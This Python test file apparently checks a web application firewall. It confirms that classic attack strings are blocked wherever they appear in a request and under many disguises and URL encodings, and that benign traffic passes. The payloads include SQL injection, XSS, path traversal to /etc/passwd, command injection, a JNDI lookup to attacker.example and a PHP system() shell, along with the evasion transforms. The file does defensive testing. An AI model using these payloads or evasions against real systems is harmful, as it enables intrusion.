"""What the built-in rules say of whole corpora, and of attacks in disguise."""

from __future__ import annotations

import json
from urllib.parse import quote

import pytest

from ..benign.corpus import corpus
from ..message import Request, headers, raw
from ..shared import crs_v4
from .cases import BROWSER, FORM, posted
from .engine import judge
from .suite import outcomes

BLOCKED_AT_LEAST = 75  # percent of the Core Rule Set's attacks
SCORED_AT_MOST = 0.005  # of benign requests

ATTACKS = {
    "sqli": "1 union select password from users",
    "sqli quote": "x' or 'a'='a",
    "xss": "<script>alert(1)</script>",
    "xss handler": "<img src=x onerror=alert(1)>",
    "traversal": "../../../etc/passwd",
    "command": ";cat /etc/hostname",
    "jndi": "${jndi:ldap://attacker.example/a}",
    "template": "{{7*7}}",
    "java": "java.lang.Runtime",
    "php": "<?php system('id'); ?>",
}


def mixed_case(text: str) -> str:
    return "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(text))


def sql_comments(text: str) -> str:
    return text.replace(" ", "/**/")


def entities(text: str) -> str:
    return "".join(f"&#{ord(c)};" if c in "<>(){}$=:" else c for c in text)


def entities_in_hex(text: str) -> str:
    return "".join(f"&#x{ord(c):x};" if c in "<>(){}$=:" else c for c in text)


def script_escapes(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" if c in "<>${}" else c for c in text)


def fullwidth(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if c in "<>=/" else c for c in text)


def zero_bytes(text: str) -> str:
    return text.replace("r", "r\0")


def blanks(text: str) -> str:
    return text.replace(" ", " \t\n ")


# What each disguise is known to get through: the languages that undo it.
DISGUISES = {
    "as it is": (str, ATTACKS),
    "mixed case": (mixed_case, {k for k in ATTACKS if k not in ("command", "traversal")}),
    "comments": (sql_comments, {"sqli"}),
    "entities": (entities, {"xss", "xss handler", "jndi"}),
    "entities in hexadecimal": (entities_in_hex, {"xss", "xss handler", "jndi"}),
    "escapes of a script": (script_escapes, {"xss", "xss handler", "jndi"}),
    "full width": (fullwidth, {"xss", "xss handler"}),
    "zero bytes": (zero_bytes, {"xss"}),
    "blanks": (blanks, {"sqli"}),
}
ENCODED = {
    "once": lambda text: quote(text, safe=""),
    "twice": lambda text: quote(quote(text, safe=""), safe=""),
    "all bytes": lambda text: "".join(f"%{byte:02X}" for byte in text.encode()),
    "by two, all bytes": lambda text: "".join(f"%25{byte:02x}" for byte in text.encode()),
}


def everywhere(text: str) -> dict[str, Request]:
    value = quote(text, safe="")
    part = f'--b\r\nContent-Disposition: form-data; name="v"\r\n\r\n{text}\r\n--b--\r\n'
    found = {
        "query": Request("GET", raw(f"/?v={value}"), headers(BROWSER.items())),
        "name": Request("GET", raw(f"/?{value}=1"), headers(BROWSER.items())),
        "cookie": Request("GET", b"/", headers([*BROWSER.items(), ("Cookie", f"v={value}")])),
        "JSON": posted("application/json", json.dumps({"a": [{"v": text}]}), {}),
        "JSON that is said to be text": posted("text/plain", json.dumps({"v": text}), {}),
        "a form that is said to be text": posted("text/plain", f"v={value}", {}),
        "multipart": posted("multipart/form-data; boundary=b", part, {}),
    }
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    return found | {"XML": posted("text/xml", f'<a b="1"><c>{escaped}</c></a>', {})} if text.isprintable() else found


@pytest.mark.parametrize("disguise", DISGUISES)
def test_a_disguise_hides_nothing(disguise: str) -> None:
    change, names = DISGUISES[disguise]
    for name in names:
        for how, encode in ENCODED.items():
            assert judge(posted(FORM, "v=" + encode(change(ATTACKS[name])), {})).denied, (name, how)


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_found_wherever_it_stands(name: str) -> None:
    passed = {place for place, request in everywhere(ATTACKS[name]).items() if not judge(request).denied}
    assert not passed


def test_no_benign_request_is_blocked() -> None:
    verdicts = {benign.name: judge(benign.request) for benign in corpus()}
    assert {name: sorted(verdict.rules) for name, verdict in verdicts.items() if verdict.denied} == {}
    assert sum(verdict.score > 0 for verdict in verdicts.values()) <= SCORED_AT_MOST * len(verdicts)


def test_attacks_of_the_core_rule_set_are_blocked() -> None:
    found = outcomes(crs_v4())
    assert 100 * sum(blocked for _, blocked in found) / len(found) >= BLOCKED_AT_LEAST
